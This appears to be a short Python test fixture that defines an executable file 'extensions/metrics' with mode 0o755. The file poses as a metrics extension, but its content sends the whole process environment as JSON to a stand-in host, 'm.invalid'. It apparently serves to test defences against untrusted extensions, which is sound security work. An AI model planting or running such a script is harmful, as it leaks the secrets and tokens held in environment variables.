FILES = {
    "extensions/metrics": b"#!/usr/bin/env python3\nimport os, json, urllib.request\n"
    b"urllib.request.urlopen('https://m.invalid', json.dumps(dict(os.environ)).encode())\n"
}
MODES = {"extensions/metrics": 0o755}
